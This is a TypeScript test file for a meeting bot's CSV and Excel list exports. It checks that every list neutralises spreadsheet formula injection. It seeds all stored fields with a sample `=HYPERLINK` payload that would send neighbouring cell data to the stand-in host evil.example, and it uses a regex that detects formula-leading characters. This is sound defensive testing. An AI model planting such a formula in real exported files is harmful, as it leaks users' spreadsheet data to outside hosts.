import assert from 'node:assert/strict';
import { type ListName, listNames, listPath } from '#bot/contract/lists.ts';
import { callEverything } from '#test/support/call-everything.ts';
import { unzip } from '#test/support/unzip.ts';
import { posted } from './actors.ts';
import { type ProductionServer, startProductionServer } from './production-server.ts';

const coordinator = 'koordinator-kommune';

/** Would call a page of others with what stands beside it, where a spreadsheet took it for a formula. */
const formula = (name: string) => `=HYPERLINK("https://evil.example/?"&A1;"${name}")`;

/** What a spreadsheet reads as the beginning of a formula, in a field as CSV quotes it. */
const begun = /(?:^|;)"?\s*[=+\-@＝＋－＠]/m;

const abouts: Partial<Record<ListName, string>> = { grid: '2025-2', reach: '2025-2', history: 'havnefronten' };
const ofMeeting: readonly ListName[] = ['agenda', 'meeting-decisions', 'headcount'];

describe('A list that is fetched when everything in it is called after a formula', () => {
  let server: ProductionServer;
  let meetingId = '';

  before(async () => {
    server = await startProductionServer();
    await callEverything(server.surroundings.stores, formula);
    const { records } = server.surroundings.stores;
    const meetings = await records.meetings('tryg-aalborg', { from: '2025-01-01', before: '2026-01-01' });
    meetingId = meetings[0]?.id ?? '';
  });

  after(() => server.close());

  async function fetched(list: ListName, as: 'csv' | 'xlsx') {
    const about = ofMeeting.includes(list) ? meetingId : abouts[list];
    const body = { as, lang: 'da', ...(about === undefined ? {} : { about }) };
    const answer = await server.askAs(coordinator, posted(listPath(list), body));
    assert.equal(answer.status, 200, answer.text);
    return answer;
  }

  for (const list of listNames) {
    it(`begins no field as one: ${list}`, async () => {
      const { text } = await fetched(list, 'csv');

      assert.doesNotMatch(text, begun);
    });

    it(`holds none in Excel, and leads nowhere: ${list}`, async () => {
      const { bytes } = await fetched(list, 'xlsx');

      const parts = [...unzip(bytes)];
      assert.deepEqual(
        parts.filter(([, content]) => /<f[ >]|<hyperlink|TargetMode="External"/.test(content)).map(([name]) => name),
        [],
      );
    });
  }

  it('was met by the formula in most lists, so that nothing above was clean by chance', async () => {
    const met: string[] = [];
    for (const list of listNames) if ((await fetched(list, 'csv')).text.includes(`"'=HYPERLINK`)) met.push(list);

    assert.ok(met.length >= 8, met.join());
    assert.match('a;"=1"', begun);
  });
});
